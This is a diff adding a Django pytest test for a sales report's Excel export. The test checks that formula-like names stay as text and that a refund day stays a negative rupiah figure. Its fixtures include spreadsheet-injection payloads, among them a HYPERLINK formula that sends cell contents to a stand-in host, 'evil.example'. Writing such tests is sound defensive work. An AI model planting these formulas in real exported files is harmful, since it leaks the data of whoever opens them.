@@ -16,6 +16,7 @@ from kriya.lib.xlsx import RUPIAH_FORMAT
 from kriya.sales import reports, services
 from kriya.sales.models import ConsignedItem, Outlet
 from kriya.sales.tests.factories import admit, consign, make_maker_product, make_outlet, sell
+from kriya.tests.spreadsheets import formula_free_workbook
 
 pytestmark = pytest.mark.django_db
 
@@ -230,3 +231,34 @@ def test_the_province_reads_both_regencies(client, shop, gianyar, bali_officer, 
 def test_the_board_reads_the_report(client, badung, shop):
     client.force_login(make_user("badung_board", badung, Role.BOARD))
     assert 'data-total="gross">Rp 425.000<' in client.get(page_url()).text
+
+
+def test_hostile_names_stay_text_and_a_refund_day_stays_a_negative_number_in_the_excel_file(
+    client, badung, badung_secretary, badung_cashier
+):
+    outlet = make_outlet(badung, '=HYPERLINK("http://evil.example/?d="&A1,"Klik")')
+    product = make_product(
+        make_business(name="+SUM(1)"), name="@cmd", slug="perak", publish=False, photo=False
+    )
+    item = consign(outlet, badung_secretary, quantity=3, product=product)
+    with time_machine.travel(dt.datetime(2026, 3, 10, 3, tzinfo=dt.UTC)):
+        sale = sell(outlet, item, badung_cashier, quantity=2)
+    with time_machine.travel(dt.datetime(2026, 3, 11, 3, tzinfo=dt.UTC)):
+        services.return_from_customer(
+            sale_line=sale.lines.get(), quantity=1, reason="-2+3", by=badung_cashier
+        )
+    client.force_login(badung_secretary)
+    r = client.get(xlsx_url(), {"dari": "2026-03-10", "sampai": "2026-03-11"})
+    book = formula_free_workbook(r.content)
+    outlets = list(book["Per outlet"].iter_rows(values_only=True))
+    assert outlets[1][:2] == ('=HYPERLINK("http://evil.example/?d="&A1,"Klik")', 1)
+    assert [row[0] for row in book["Per business"].iter_rows(values_only=True)][1] == "+SUM(1)"
+    days = {
+        row[0].date(): row[4:] for row in book["Per day"].iter_rows(min_row=2, values_only=True)
+    }
+    assert days[dt.date(2026, 3, 10)] == (250000, 50000, 200000)
+    assert days[dt.date(2026, 3, 11)] == (-125000, -25000, -100000)  # the refund day
+    refund = next(row for row in book["Per day"].iter_rows(min_row=2) if row[4].value < 0)
+    assert refund[4].data_type == "n" and refund[4].number_format == RUPIAH_FORMAT
+    stock = list(book["Stock value"].iter_rows(values_only=True))
+    assert stock[1] == ('=HYPERLINK("http://evil.example/?d="&A1,"Klik")', 2, 200000, 250000)
